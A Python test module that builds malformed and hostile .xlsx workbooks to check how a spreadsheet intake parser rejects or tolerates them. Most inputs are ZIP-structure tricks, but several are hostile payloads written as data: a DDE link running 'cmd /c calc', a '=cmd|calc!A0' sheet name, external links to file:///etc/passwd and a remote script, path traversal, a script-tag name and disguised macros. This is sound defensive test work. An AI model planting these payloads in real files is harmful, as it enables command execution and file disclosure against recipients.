"""Make workbooks whose package, relations or XML say more than their cells show, or something else."""

from __future__ import annotations

import random
import struct
import zlib

from tests.hostile.kinds import COLUMNS, GOOD, Kind, bad, good, values
from tests.hostile.raw import book, cell, changed, directory_patched, lines, packed, parts, sheet
from tests.intake.conftest import grid, record

_SOUND = sheet(lines())
_BOOK = book(_SOUND)
_LAST = f"{chr(64 + COLUMNS)}2"
_ID = chr(65 + GOOD[0].index("规格品编码")) + "2"
_PACK = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_NOISE = random.Random(5)


def packages() -> list[Kind]:
    """Return workbooks whose ZIP directory misleads."""
    doubled = packed(parts(_SOUND) | {"xl/worksheets/sheet9.xml": sheet(lines(grid([record(9, amount=9)]))).encode()})
    doubled = doubled.replace(b"xl/worksheets/sheet9.xml", b"xl/worksheets/sheet1.xml")
    end = _BOOK.rindex(b"PK\x05\x06")
    count = struct.unpack_from("<H", _BOOK, end + 10)[0]
    other = book(sheet(lines(grid([record(9, amount=9)]))))
    huge = struct.pack("<HHQQ", 1, 16, 2**63, 2**63)
    return [
        bad("two-parts-of-one-name.xlsx", doubled, "workbook_damaged"),
        bad("zip64-of-2-63.xlsx", _zip64(huge), "workbook_too_large"),
        # every part is where the directory says: how many it says there are tells nothing
        good(
            "directory-counts-more.xlsx",
            _BOOK[: end + 8] + struct.pack("<HH", count + 9, count + 9) + _BOOK[end + 12 :],
        ),
        bad(
            "directory-beyond-the-end.xlsx",
            _BOOK[: end + 16] + b"\xff\xff\xff\x7f" + _BOOK[end + 20 :],
            "workbook_damaged",
        ),
        good("bytes-after-the-end.xlsx", _BOOK + b"\r\n"),
        # the last directory is the one every program reads
        good("two-workbooks-in-one-file.xlsx", other + _BOOK),
        bad(
            "part-begins-beyond-the-end.xlsx",
            directory_patched(_BOOK, "xl/workbook.xml", 42, b"\xff\xff\xff\x7f"),
            "workbook_damaged",
        ),
        bad(
            "part-begins-in-another.xlsx",
            directory_patched(_BOOK, "xl/workbook.xml", 42, b"\x07\0\0\0"),
            "workbook_damaged",
        ),
        bad(
            "part-of-another-checksum.xlsx",
            directory_patched(_BOOK, "xl/workbook.xml", 16, b"\1\2\3\4"),
            "workbook_damaged",
        ),
        good("stored-not-packed.xlsx", packed(parts(_SOUND), 0)),
        good("path-with-a-bom.xlsx", book(_SOUND, more={"\ufeffxl/x.bin": b"x"})),
        good("folder-entries.xlsx", book(_SOUND, more={"xl/": b"", "xl/worksheets/": b""})),
        good("parts-400.xlsx", book(_SOUND, more={f"xl/media/image{n}.png": b"x" for n in range(400)})),
        bad("only-a-workbook-inside.zip", packed({"a.xlsx": _BOOK}), "file_type"),
        bad("workbook-inside.xlsx", packed({"a.xlsx": _BOOK}), "file_content"),
        bad("empty-part.xlsx", packed(parts(_SOUND) | {"xl/worksheets/sheet1.xml": b""}), "workbook_damaged"),
        bad("empty-book.xlsx", packed(parts(_SOUND) | {"xl/workbook.xml": b""}), "workbook_damaged"),
        bad(
            "no-relations.xlsx",
            packed({n: d for n, d in parts(_SOUND).items() if "_rels/work" not in n}),
            "workbook_damaged",
        ),
    ]


def _zip64(extra: bytes) -> bytes:
    # One entry says its sizes stand in an extra field, and there they are beyond all files.
    at = _BOOK.index(b"xl/worksheets/sheet1.xml", _BOOK.index(b"PK\x01\x02")) - 46
    end = _BOOK.rindex(b"PK\x05\x06")
    entry = bytearray(_BOOK[at:end])
    entry[20:28] = b"\xff" * 8
    entry[30:32] = struct.pack("<H", len(extra))
    size = struct.unpack_from("<I", _BOOK, end + 12)[0] + len(extra)
    tail = _BOOK[end : end + 12] + struct.pack("<I", size) + _BOOK[end + 16 :]
    return _BOOK[:at] + bytes(entry[: 46 + len("xl/worksheets/sheet1.xml")]) + extra + bytes(entry[46 + 24 :]) + tail


def outward() -> list[Kind]:
    """Return workbooks that point outside themselves: to files, the web, other programs."""
    dde = (
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/>'
        "</ddeItems></ddeLink></externalLink>"
    )
    connection = '<connections><connection id="1" type="4"><webPr url="file:///etc/passwd"/></connection></connections>'
    macro_type = b'<Types><Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    macro_sheet = changed(
        _BOOK,
        "xl/_rels/workbook.xml.rels",
        f"{_OFFICE}/worksheet".encode(),
        b"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
    )
    relations = {
        "picture": _relation("image", "file:///etc/passwd"),
        "template": _relation("attachedTemplate", "http://127.0.0.1:9/x.dotm"),
        "hyperlink": _relation("hyperlink", "file://///127.0.0.1/share/x"),
        "ole": _relation("oleObject", "script:http://127.0.0.1:9/x.sct"),
    }
    return [
        *[good(f"relation-to-a-{n}.xlsx", book(_SOUND, more={_SHEET_RELS: xml})) for n, xml in relations.items()],
        good("dde.xlsx", book(_SOUND, more={"xl/externalLinks/externalLink1.xml": dde.encode()}), "external_links"),
        good("connections.xlsx", book(_SOUND, more={"xl/connections.xml": connection.encode()}), "external_links"),
        good("query-table.xlsx", book(_SOUND, more={"xl/queryTables/queryTable1.xml": b"<queryTable/>"})),
        good("pivot-cache.xlsx", book(_SOUND, more={"xl/pivotCache/pivotCacheDefinition1.xml": b"<a/>"})),
        good("object-inside.xlsx", book(_SOUND, more={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 9})),
        bad(
            "macros-renamed.xlsx",
            book(_SOUND, more={"[Content_Types].xml": macro_type, "xl/x.bin": b"x"}),
            "workbook_macros",
        ),
        bad("macro-sheet-by-type.xlsx", macro_sheet, "workbook_macros"),
        bad(
            "book-relation-up.xlsx",
            changed(_BOOK, "xl/_rels/workbook.xml.rels", b"worksheets/sheet1", b"..%2f..%2fetc/passwd"),
            "workbook_damaged",
        ),
        bad(
            "sheet-is-the-book.xlsx",
            changed(_BOOK, "xl/_rels/workbook.xml.rels", b"worksheets/sheet1.xml", b"workbook.xml"),
            "header_missing",
        ),
        good("sheet-named-as-a-path.xlsx", _named("../../x")),
        good("sheet-named-as-a-formula.xlsx", _named("=cmd|calc!A0")),
        good("sheet-named-as-a-script.xlsx", _named("&lt;script&gt;alert(1)&lt;/script&gt;")),
        good("sheet-name-of-5000.xlsx", _named("表" * 5_000)),
        good("sheet-name-with-breaks.xlsx", _named("a&#10;b&#13;c&#9;d")),
        good("sheet-without-a-name.xlsx", _named("")),
        good("strict.xlsx", _strict()),
        good(
            "defined-names.xlsx",
            changed(
                _BOOK,
                "xl/workbook.xml",
                b"</sheets>",
                b'</sheets><definedNames><definedName name="x">[1]S!A1</definedName></definedNames>',
            ),
        ),
    ]


def _relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships xmlns="{_PACK}"><Relationship Id="rId1" Type="{_OFFICE}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


def _last(xml: str) -> bytes:
    return book(sheet(lines().replace(cell(100.5, _LAST), xml)))


def _id(xml: str, more: dict[str, bytes] | None = None) -> bytes:
    return book(sheet(lines().replace(cell("RG-1", _ID), xml)), more=more)


def _named(name: str) -> bytes:
    return changed(_BOOK, "xl/workbook.xml", b'name="S1"', f'name="{name}"'.encode())


def _strict() -> bytes:
    old, new = b"http://schemas.openxmlformats.org/officeDocument/2006", b"http://purl.oclc.org/ooxml/officeDocument"
    main, strict = (
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    )
    return packed({n: d.replace(old, new).replace(main, strict) for n, d in parts(_SOUND).items()})


def markup() -> list[Kind]:
    """Return workbooks whose XML may be read in two ways: the reader takes what Excel shows, or refuses."""
    again = '<row r="2">' + "".join(cell(v, f"{chr(65 + c)}2") for c, v in enumerate(GOOD[1])) + "</row>"
    rich = "<is><r><t>RG</t></r><r><rPr><b/></rPr><t>-1</t></r></is>"
    spoken = '<is><t>RG-1</t><rPh sb="0" eb="2"><t>アールジー</t></rPh></is>'
    strings = b"<sst><si><t>RG-1</t><rPh sb='0' eb='2'><t>x</t></rPh></si></sst>"
    two, three = lines().split('<row r="3">')
    choice = (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="x">{again.replace("100.5", "7")}</mc:Choice></mc:AlternateContent>'
    )
    many = "".join(f"<si><t>{_NOISE.randrange(16**12):x}</t></si>" for _ in range(200_000))
    coloured = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{chr(65 + c)}{r}" s="1"/>' for c in range(12)) + "</row>"
        for r in range(4, 3_000)
    )
    return [
        bad("line-twice.xlsx", book(sheet(lines() + again.replace("100.5", "7"))), "workbook_damaged"),
        # no program writes it; the last one stands, as in LibreOffice
        values("cell-twice.xlsx", _last(cell(100.5, _LAST) + cell(7, _LAST)), [7, 200]),
        good(
            "lines-out-of-order.xlsx",
            book(sheet(f'{two.split("<row r=" + chr(34) + "2")[0]}<row r="3">{three}' + again)),
        ),
        bad(
            "second-sheet-data.xlsx",
            book(_SOUND.replace("</worksheet>", f"<sheetData>{again}</sheetData></worksheet>")),
            "workbook_damaged",
        ),
        bad("number-with-an-instruction.xlsx", _last(f'<c r="{_LAST}"><v>100<?x y?>.5</v></c>'), "workbook_damaged"),
        bad("alternate-content.xlsx", book(sheet(lines() + choice)), "workbook_damaged"),
        bad("number-as-cdata.xlsx", _last(f'<c r="{_LAST}"><v><![CDATA[100.5]]></v></c>'), "workbook_damaged"),
        bad("number-with-a-comment.xlsx", _last(f'<c r="{_LAST}"><v>100<!-- 0 -->.5</v></c>'), "workbook_damaged"),
        bad("number-with-entities.xlsx", _last(f'<c r="{_LAST}"><v>&#49;00&#x2e;5</v></c>'), "workbook_damaged"),
        good("number-with-a-blank.xlsx", _last(f'<c r="{_LAST}"><v> 100.5 </v></c>')),
        values("number-that-is-none.xlsx", _last(f'<c r="{_LAST}"><v>1O0.5</v></c>'), [None, 200], "number_format"),
        good("rich-text.xlsx", _id(f'<c r="{_ID}" t="inlineStr">{rich}</c>'), item_id=["RG-1", "RG-2"]),
        good("spoken-text.xlsx", _id(f'<c r="{_ID}" t="inlineStr">{spoken}</c>'), item_id=["RG-1", "RG-2"]),
        good(
            "spoken-shared.xlsx",
            _id(f'<c r="{_ID}" t="s"><v>0</v></c>', {"xl/sharedStrings.xml": strings}),
            item_id=["RG-1", "RG-2"],
        ),
        good(
            "escaped-text.xlsx",
            _id(f'<c r="{_ID}" t="inlineStr"><is><t>RG_x002D_1</t></is></c>'),
            item_id=["RG-1", "RG-2"],
        ),
        bad(
            "text-of-cdata.xlsx",
            _id(f'<c r="{_ID}" t="inlineStr"><is><t><![CDATA[RG-1]]></t></is></c>'),
            "workbook_damaged",
        ),
        bad(
            "text-with-a-comment.xlsx",
            _id(f'<c r="{_ID}" t="inlineStr"><is><t>RG<!-- x -->-1</t></is></c>'),
            "workbook_damaged",
        ),
        values(
            "code-of-18-digits.xlsx",
            _id(f'<c r="{_ID}"><v>123456789012345678</v></c>'),
            [100.5, 200],
            "digits_lost",
            item_id=["1.2345678901234568e+17", "RG-2"],
        ),
        good(
            "code-of-15-digits.xlsx",
            _id(f'<c r="{_ID}"><v>123456789012345</v></c>'),
            item_id=["123456789012345", "RG-2"],
        ),
        good("strings-200000.xlsx", book(_SOUND, more={"xl/sharedStrings.xml": f"<sst>{many}</sst>".encode()})),
        good("coloured-beyond.xlsx", book(sheet(lines() + coloured))),
        good("protected.xlsx", book(sheet(lines(), '<sheetProtection sheet="1" password="CC1A"/>'))),
        good(
            "filtered.xlsx",
            book(sheet(lines().replace('<row r="3"', '<row r="3" hidden="1"'), '<autoFilter ref="A1:I3"/>')),
            "hidden_rows",
        ),
        bad(
            "only-pictures.xlsx",
            book(sheet("", '<drawing r:id="rId1"/>').replace("<worksheet", f'<worksheet xmlns:r="{_OFFICE}"')),
            "header_missing",
        ),
        bad(
            "header-of-two-lines.xlsx",
            book(
                sheet(lines([GOOD[0], [""] * COLUMNS, *GOOD[1:]]), '<mergeCells><mergeCell ref="A1:A2"/></mergeCells>')
            ),
            "merged_cells",
        ),
        bad(
            "all-sheets-hidden.xlsx",
            changed(_BOOK, "xl/workbook.xml", b'sheetId="1"', b'sheetId="1" state="hidden"'),
            "header_missing",
            "hidden_sheet",
        ),
        bad("tag-soup.xlsx", book(_SOUND.replace("<v>", "<v><v>")), "workbook_damaged"),
        good("namespace-of-nothing.xlsx", book(_SOUND.replace("<row", "<q:row").replace("</row", "</q:row"))),
        bad("raw-deflate.xlsx", zlib.compress(_BOOK), "file_content"),
    ]
